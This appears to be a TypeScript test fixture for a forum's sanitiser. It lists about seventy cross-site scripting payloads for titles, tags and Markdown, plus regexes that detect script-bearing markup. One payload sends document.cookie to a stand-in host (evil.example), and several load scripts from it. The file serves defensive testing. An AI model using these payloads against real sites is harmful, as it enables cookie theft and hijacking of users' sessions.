// Payloads people post to make a forum run their script (issue 18's quality bar: at least 50). Each is
// written as a member would type it into a title, a tag or a Markdown body. What the server stores and
// sends must hold none of them in a form a browser would run (see `activeContent` below); titles and tags
// are plain text, shown by React as text, so they must come back exactly as typed (or be refused).

export const xssCorpus: readonly string[] = [
  // Script elements
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<script>document.location='https://evil.example/?c='+document.cookie</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script/xss src=https://evil.example/x.js></script>",
  '"><script>alert(1)</script>',
  "</textarea><script>alert(1)</script>",
  "<<script>alert(1);//<</script>",
  // Event handlers
  "<img src=x onerror=alert(1)>",
  '<img src="https://example.com/a.png" onload="alert(1)">',
  "<body onload=alert(1)>",
  '<div onmouseover="alert(1)">hover</div>',
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  '<a href="https://example.com" onclick="alert(1)">click</a>',
  '<p style="x" onpointerenter=alert(1)>text</p>',
  "<img src=x oNeRrOr=alert(1)>",
  // javascript: URLs in Markdown links and images
  "[click me](javascript:alert(1))",
  "[click me](JaVaScRiPt:alert(1))",
  "[click me](javascript&#58;alert(1))",
  "[click me](  javascript:alert(1))",
  "[click me](java\tscript:alert(1))",
  "![img](javascript:alert(1))",
  '[x](javascript:alert(1) "title")',
  "<javascript:alert(1)>",
  "[ref]\n\n[ref]: javascript:alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "[x](vbscript:msgbox(1))",
  // data: URLs
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  // SVG and MathML
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  // Frames, objects, forms
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  // Style
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  // Entities and encodings
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "<img src=`x` onerror=`alert(1)`>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  // Mentions-like and Markdown tricks
  "@<img src=x onerror=alert(1)>",
  "@[admin](javascript:alert(1))",
  "**bold<script>alert(1)</script>**",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "> <img src=x onerror=alert(1)>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "<a href='https://example.com' target=_blank rel=opener>x</a>",
];

/**
 * Markup a browser would run in stored or served HTML: script and frame elements, event handler
 * attributes, and script-bearing URLs in attributes.
 */
export const activeContent: readonly RegExp[] = [
  /<\s*script/i,
  /<\s*iframe/i,
  /<\s*object/i,
  /<\s*embed/i,
  /<\s*svg/i,
  /<\s*math/i,
  /<\s*style/i,
  /<\s*form/i,
  /<\s*meta/i,
  /<\s*base/i,
  /<\s*link/i,
  /<[^>]+\son[a-z]+\s*=/i,
  /<[^>]+\sstyle\s*=/i,
  /(href|src|action|xlink:href|formaction)\s*=\s*["']?\s*(javascript|vbscript|data):/i,
];

/** The patterns `html` matches (none for safe HTML). */
export function activeContentIn(html: string): string[] {
  return activeContent.filter((pattern) => pattern.test(html)).map(String);
}
